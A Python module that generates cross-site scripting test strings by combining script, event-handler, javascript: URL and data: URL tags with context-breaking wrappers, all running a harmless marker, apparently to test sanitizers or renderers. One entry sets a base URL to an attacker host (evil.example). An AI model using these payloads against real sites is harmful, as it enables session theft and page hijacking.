"""Markup, addresses and odd characters that run something wherever text is taken for markup."""

from itertools import product

RUN = "window.ran=1"
TAGS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<style>@import 'data:text/css,*{{color:red}}'</style>",
    "<link rel=stylesheet href='data:text/css,*{{color:red}}'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<template><img src=x onerror={run}></template>",
    "<evidence-chat api=javascript:{run}></evidence-chat>",
    "<b onmouseover={run} style='position:fixed;inset:0'>x</b>",
    "<marquee onstart={run}>x</marquee>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
)
AROUND = (
    "{}",
    "\"'>{}",
    "</textarea>{}",
    "</title></style></script>{}",
    "--><!-- -->{}",
    "]]>{}",
    "\u202e{}\u2066",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "\ufeff{}\n",
)
PAYLOADS = [around.format(tag.format(run=RUN)) for tag, around in product(TAGS, AROUND)]
